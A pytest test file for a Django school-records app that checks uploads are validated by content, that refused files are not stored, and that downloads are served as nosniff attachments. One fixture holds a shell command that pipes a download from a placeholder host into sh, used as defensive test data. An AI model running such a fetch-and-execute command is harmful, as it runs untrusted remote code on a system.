"""Documents are checked by what they contain, not by their name: the content
must be on the allow-list and agree with the extension; a refused file leaves
nothing behind; a download is served with the register's own content type, as
an attachment, never sniffed."""

import io
import os
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from requests import services, uploads
from requests.models import Attachment, Outcome, PasswordRoute, Status
from requests.services import ALLOWED_EXTENSIONS

from .factories import World, answer, answer_post

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40


def _zip(entries, *, first=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name, content in entries:
            archive.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


DOCX = _zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")])
XLSX = _zip([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")])
ODT = _zip([("content.xml", "<x/>")], first=("mimetype", "application/vnd.oasis.opendocument.text"))
PLAIN_ZIP = _zip([("notes.txt", "x")])


@pytest.fixture
def world():
    return World()


def _stored_files(storage):
    root = storage.location
    return {os.path.join(d, f) for d, _, files in os.walk(root) for f in files}


def _answer(world, request, *files):
    return answer(
        user=world.scpo_a,
        request=request,
        outcome=Outcome.SHARED,
        response_status="fact",
        response_text="See attached.",
        files=list(files),
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("attendance.pdf", EXE),  # a Windows executable renamed
        ("attendance.pdf", SCRIPT),  # a shell script renamed
        ("attendance.docx", PDF),  # a real PDF under another office name
        ("attendance.docx", PLAIN_ZIP),  # any ZIP is not a Word document
        ("attendance.docx", EXE + DOCX),  # a self-extracting executable
        ("attendance.png", PDF),
        ("attendance.jpg", PNG),
        ("attendance.odt", DOCX),
        ("attendance.txt", EXE),  # NUL bytes are not text
        ("attendance.csv", b"name,dob\n\xff\xfe\x00\x00"),  # not UTF-8
        ("attendance.txt", b"line one\x00line two"),
    ],
)
def test_a_file_whose_content_is_not_what_its_name_says_is_refused_and_nothing_is_stored(
    world, name, content
):
    request = world.s14b_to(world.school_a, world.scpo_a)
    storage = Attachment.file.field.storage
    before = _stored_files(storage)
    with pytest.raises(ValidationError, match="not what its name says") as refused:
        _answer(
            world,
            request,
            SimpleUploadedFile("good.pdf", PDF, content_type="application/pdf"),
            SimpleUploadedFile(name, content, content_type="application/pdf"),
        )
    assert "attendance" not in " ".join(refused.value.messages)  # names may name a child
    request.refresh_from_db()
    assert request.status == Status.OPEN
    assert not Attachment.objects.exists()
    assert _stored_files(storage) == before


@pytest.mark.parametrize(
    ("name", "content", "served"),
    [
        ("attendance.pdf", PDF, "application/pdf"),
        ("notes.txt", "Seen on Monday – fine, “well”.\n".encode(), "text/plain; charset=utf-8"),  # noqa: RUF001 (real punctuation a school types)
        ("register.csv", b"\xef\xbb\xbfdate,present\n2026-11-02,yes\n", "text/csv; charset=utf-8"),
        ("photo.png", PNG, "image/png"),
        ("report.docx", DOCX, uploads.CONTENT_TYPES[".docx"]),
        ("marks.xlsx", XLSX, uploads.CONTENT_TYPES[".xlsx"]),
        ("letter.odt", ODT, uploads.CONTENT_TYPES[".odt"]),
    ],
)
def test_a_file_that_is_what_its_name_says_is_stored_with_the_servers_type(
    world, name, content, served
):
    request = world.s14b_to(world.school_a, world.scpo_a)
    # The browser's claim is ignored either way.
    _answer(world, request, SimpleUploadedFile(name, content, content_type="text/html"))
    attachment = request.attachments.get()
    assert attachment.content_type == served
    assert attachment.file.read() == content


def test_every_accepted_extension_has_a_content_check_and_a_served_type():
    assert set(uploads.CONTENT_TYPES) == set(ALLOWED_EXTENSIONS)


def test_the_page_shows_a_mismatch_as_a_message(verified_client, world):
    request = world.s14b_to(world.school_a, world.scpo_a)
    response = verified_client(world.scpo_a).post(
        reverse("decisions:answer_request", args=[request.pk]),
        answer_post(
            response_text="See attached.",
            documents=[SimpleUploadedFile("attendance.pdf", EXE)],
        ),
    )
    assert response.status_code in {200, 400}
    assert "not what its name says" in response.content.decode()
    assert not Attachment.objects.exists()


def test_a_download_is_served_with_the_registers_type_as_an_attachment(verified_client, world):
    request = world.s14b_to(world.school_a, world.scpo_a)
    _answer(world, request, SimpleUploadedFile("Jamie Reed attendance.pdf", PDF))
    attachment = request.attachments.get()
    # A row stored before content checks holds what the browser sent.
    Attachment.objects.filter(pk=attachment.pk).update(content_type="text/html")

    response = verified_client(world.worker).get(
        reverse("requests:attachment_download", args=[attachment.pk])
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Jamie" not in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_secure_export_is_served_as_a_zip_attachment_never_sniffed(verified_client, world):
    request = world.s14b_to(world.school_a, world.scpo_a)
    issued, _password = services.request_export(
        user=world.worker,
        request=request,
        issued_to="Review panel",
        password_route=PasswordRoute.values[0],
    )

    response = verified_client(world.worker).get(
        reverse("requests:export_download", args=[issued.pk])
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Jamie" not in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
